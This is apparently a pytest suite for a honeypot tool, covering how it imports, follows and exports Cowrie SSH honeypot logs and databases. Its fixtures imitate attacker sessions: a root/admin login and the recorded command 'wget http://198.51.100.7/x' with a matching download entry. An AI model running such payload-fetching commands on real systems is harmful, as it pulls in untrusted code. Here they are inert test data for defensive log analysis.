"""`urltrap import cowrie` and `urltrap tail cowrie` as an operator uses them."""

from __future__ import annotations

import gzip
import json
import os
import signal
import subprocess
import sys
import time
from hashlib import sha256
from pathlib import Path

import pytest
import sqlalchemy as sa
from tests.exchange.lines import line, visit
from tests.ops.commands import run

from urltrap.journal import JournalReader
from urltrap.model.event import CommandEntered, Event, Uploaded
from urltrap.quarantine import Quarantine
from urltrap.store import open_store
from urltrap.store.intake import ingest


@pytest.fixture
def data(tmp_path: Path) -> Path:
    folder = tmp_path / "data"
    assert run("init", folder).exit_code == 0
    return folder


def journalled(data: Path) -> list[Event]:
    reader = JournalReader(data / "journal")
    return [event for writer in reader.writers() for _, event in reader.read(writer, limit=10_000)]


def test_logs_are_imported_with_their_files_and_bad_lines_are_kept(data: Path, tmp_path: Path) -> None:
    payload = b"#!/bin/sh\necho harmless\n"
    digest = sha256(payload).hexdigest()
    kept = tmp_path / "cowrie"
    (kept / "downloads").mkdir(parents=True)
    (kept / "downloads" / digest).write_bytes(payload)
    (kept / "log").mkdir()
    upload = line("session.file_upload", 50, "d00d", filename="/tmp/a", outfile="x", shasum=digest)
    (kept / "log" / "cowrie.json.1.gz").write_bytes(gzip.compress(b"\n".join(visit()) + b"\nhalf a li"))
    (kept / "log" / "cowrie.json").write_bytes(upload + b"\n")

    done = run("import", "cowrie", kept / "log", "--files", kept, "--data", data, "--json")

    assert done.exit_code == 0, done.output
    assert json.loads(done.output) == {"lines": 12, "events": 13, "bad": 1, "files": 1, "ignored": {}}
    assert sum(isinstance(event, CommandEntered) for event in journalled(data)) == 1
    assert [event.sha256 for event in journalled(data) if isinstance(event, Uploaded)] == [digest]
    assert Quarantine(data / "quarantine").read(digest, 0, 100) == payload
    (bad,) = (data / "imports" / "cowrie-import-bad.jsonl").read_text().splitlines()
    assert "not JSON" in json.loads(bad)["reason"]


def test_a_damaged_log_is_told_and_the_others_are_read(data: Path, tmp_path: Path) -> None:
    logs = tmp_path / "logs"
    logs.mkdir()
    whole = b"".join(line("command.input", n, input=f"echo {n}") + b"\n" for n in range(3000))
    packed = gzip.compress(whole)
    (logs / "cowrie.json.1.gz").write_bytes(packed[:-200])
    (logs / "cowrie.json.2.gz").write_bytes(packed[:20] + b"\xff" * 40 + packed[60:])  # before its first line
    (logs / "cowrie.json").write_bytes(line("command.input", 9000, input="uname"))
    said = run("import", "cowrie", logs, "--data", data)
    assert said.exit_code == 1
    for name in ("cowrie.json.1.gz", "cowrie.json.2.gz"):
        assert f"{name}: " in said.output
    assert "nothing twice" in said.output
    found = [event.text for event in journalled(data) if isinstance(event, CommandEntered)]
    assert b"uname" in found and len(found) > 2500
    said = run("import", "cowrie", "mysql://cowrie@db/cowrie", "--data", data)
    assert said.exit_code == 1 and "--database" in said.output


def test_importing_again_adds_no_event_that_the_store_does_not_know(data: Path, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    log.write_bytes(b"\n".join(visit()))
    for _ in range(2):
        assert run("import", "cowrie", log, "--data", data).exit_code == 0
    events = journalled(data)
    assert len(events) == 22
    assert len({event.id for event in events}) == 11


def test_what_to_import_must_be_said_and_be_there(data: Path, tmp_path: Path) -> None:
    nothing = run("import", "cowrie", "--data", data)
    assert nothing.exit_code == 1
    assert "--database" in nothing.output
    gone = run("import", "cowrie", tmp_path / "gone.json", "--data", data)
    assert gone.exit_code == 1
    assert "cannot be read" in gone.output


def test_a_database_that_cowrie_filled_is_imported(data: Path, tmp_path: Path) -> None:
    database = tmp_path / "cowrie.sqlite"
    engine = sa.create_engine(f"sqlite:///{database}")
    with engine.begin() as connection:
        for statement in (
            "CREATE TABLE sessions (id VARCHAR(32), starttime DATETIME, endtime DATETIME, sensor INT, ip VARCHAR(15), "
            "termsize VARCHAR(7), client INT)",
            "CREATE TABLE auth (id INTEGER PRIMARY KEY, session VARCHAR(32), success INT, username VARCHAR(100), "
            "password VARCHAR(100), timestamp DATETIME)",
            "CREATE TABLE input (id INTEGER PRIMARY KEY, session VARCHAR(32), timestamp DATETIME, realm VARCHAR(50), "
            "success INT, input TEXT)",
            "CREATE TABLE downloads (id INTEGER PRIMARY KEY, session VARCHAR(32), timestamp DATETIME, url TEXT, "
            "outfile TEXT, shasum VARCHAR(64))",
            "CREATE TABLE clients (id INTEGER PRIMARY KEY, version VARCHAR(50))",
            "CREATE TABLE sensors (id INTEGER PRIMARY KEY, ip VARCHAR(255))",
            "INSERT INTO sensors VALUES (7, 'old-trap')",
            "INSERT INTO clients VALUES (3, 'SSH-2.0-Go')",
            "INSERT INTO sessions VALUES ('s1', '2026-03-01T12:00:00.5Z', '2026-03-01 12:00:09', 7, '203.0.113.9', "
            "'80x24', 3)",
            "INSERT INTO auth VALUES (1, 's1', 1, 'root', 'admin', '2026-03-01T12:00:02Z')",
            "INSERT INTO input VALUES (1, 's1', '2026-03-01T12:00:04Z', NULL, 1, 'wget http://198.51.100.7/x')",
            "INSERT INTO input VALUES (2, 's1', '2026-03-01T12:00:03Z', NULL, 0, 'nosuch')",
            "INSERT INTO downloads VALUES (1, 's1', '2026-03-01T12:00:05Z', 'http://198.51.100.7/x', NULL, NULL)",
        ):
            connection.exec_driver_sql(statement)
    done = run("import", "cowrie", "--database", f"sqlite:///{database}", "--data", data)
    assert done.exit_code == 0, done.output
    assert [event.kind for event in journalled(data)] == [
        "session.connect", "client.identified", "terminal.requested", "login.tried", "program.run",
        "command.entered", "download.asked", "download.answered", "session.close",
    ]  # fmt: skip
    assert journalled(data)[0].sensor == "old-trap"  # type: ignore[union-attr]


def test_a_database_of_something_else_is_told_without_its_password(data: Path, tmp_path: Path) -> None:
    other = run("import", "cowrie", "--database", f"sqlite:///{tmp_path}/new.db", "--data", data)
    assert other.exit_code == 1
    assert "no database of Cowrie's" in other.output
    away = run("import", "cowrie", "--database", "mysql://root:s3cret@127.0.0.1:9/cowrie", "--data", data)
    assert away.exit_code == 1
    assert "cannot be read" in away.output
    assert "s3cret" not in away.output


def test_a_running_log_is_followed_and_gone_on_with_after_a_kill(data: Path, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.json"
    lines = visit()
    log.write_bytes(b"\n".join(lines[:4]) + b"\n")
    command = [sys.executable, "-m", "urltrap.ops", "tail", "cowrie", str(log), "--data", str(data)]
    state = next(iter((data / "imports").glob("tail-*.json")), None)
    assert state is None

    with subprocess.Popen(command, stderr=subprocess.DEVNULL) as first:
        _until(lambda: len(journalled(data)) == 4 and any((data / "imports").glob("tail-*.json")), first)
        first.kill()
    os.rename(log, f"{log}.2026-03-01")
    log.write_bytes(b"\n".join(lines[4:]) + b"\n")
    with subprocess.Popen(command, stderr=subprocess.DEVNULL) as second:
        _until(lambda: len({event.id for event in journalled(data)}) == 11, second)
        second.send_signal(signal.SIGTERM)
        assert second.wait(30) == 0
    assert len({event.session for event in journalled(data)}) == 1


def _until(done: object, process: subprocess.Popen[bytes]) -> None:
    deadline = time.monotonic() + 60
    while not done():  # type: ignore[operator]
        assert process.poll() is None, "the follower ended"
        assert time.monotonic() < deadline
        time.sleep(0.05)


def test_events_are_exported_as_cowries_log_and_come_back(data: Path, tmp_path: Path) -> None:
    log, out = tmp_path / "cowrie.json", tmp_path / "out.json"
    log.write_bytes(b"\n".join(visit() + visit("c0ffee000002", 90_000)))
    run("import", "cowrie", log, "--data", data)
    store = open_store(f"sqlite:///{data / 'urltrap.db'}")
    ingest(store, "cowrie-import", journalled(data), (1, 1))
    store.close()

    whole = run("export", "cowrie", "--data", data, "--output", out)
    assert whole.exit_code == 0, whole.output
    lines = [json.loads(each) for each in out.read_bytes().splitlines()]
    assert [each["eventid"] for each in lines[:10]] == [json.loads(each)["eventid"] for each in visit()]
    assert len(lines) == 20

    part = run("export", "cowrie", "--data", data, "--since", "2026-03-02")
    assert len(part.output.splitlines()) == 10
    assert run("import", "cowrie", out, "--data", data, "--json").exit_code == 0


def test_urls_are_exported_with_and_without_saying_so(data: Path) -> None:
    store = open_store(f"sqlite:///{data / 'urltrap.db'}")
    store.close()
    said, unsaid = run("export", "urls", "--data", data), run("export", "--format", "csv", "--data", data)
    assert said.exit_code == unsaid.exit_code == 0
    assert said.output.splitlines()[-1] == unsaid.output.splitlines()[-1]


def test_an_export_that_cannot_be_written_is_told(data: Path, tmp_path: Path) -> None:
    store = open_store(f"sqlite:///{data / 'urltrap.db'}")
    store.close()
    done = run("export", "cowrie", "--data", data, "--output", tmp_path / "no" / "folder")
    assert done.exit_code == 1
    assert "cannot be written" in done.output


def test_an_output_that_names_no_receiver_is_told_before_anything_starts(data: Path) -> None:
    done = run("up", "--data", data, URLTRAP_OUTPUTS__SYSLOG="collector")
    assert done.exit_code == 1
    assert "[outputs]" in done.output and "udp://host:514" in done.output
